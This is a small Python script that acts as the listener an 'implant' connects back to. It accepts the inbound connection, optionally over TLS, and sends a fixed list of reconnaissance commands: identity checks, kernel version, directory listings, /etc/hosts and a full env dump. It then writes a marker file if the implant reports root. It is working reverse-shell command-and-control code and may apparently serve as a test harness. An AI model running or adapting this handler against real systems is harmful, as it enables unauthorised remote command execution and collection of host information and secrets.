# SPDX-License-Identifier: Apache-2.0
"""orders.py PORT FILE [CERTIFICATE KEY]: whom an implant calls. Gives it one order after the other, waiting for each
answer and a moment more, then makes FILE.
"""

import socket
import ssl
import sys
import time
from pathlib import Path

ORDERS = [
    "id",
    "uname -a",
    "ls -la /",
    "cat /etc/hosts",
    "head -c 3000 /etc/services",
    "env",
    "ls /usr",
    "uname -r",
    "ls /tmp",
    "id -u",
]


def answer_to(order: str, implant: socket.socket) -> bytes:
    """All that is said until it is quiet."""
    implant.sendall(order.encode() + b"\n")
    implant.settimeout(3)
    answer = implant.recv(65536)
    implant.settimeout(0.6)
    try:
        while piece := implant.recv(65536):
            answer += piece
    except TimeoutError:
        pass
    return answer


with socket.create_server(("", int(sys.argv[1]))) as server:
    implant = server.accept()[0]
    if len(sys.argv) > 3:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(*sys.argv[3:])
        implant = context.wrap_socket(implant, server_side=True)
    with implant:
        time.sleep(0.6)
        answers = [answer_to(order, implant) for order in ORDERS]
        if answers[-1].strip() == b"0":
            Path(sys.argv[2]).touch()
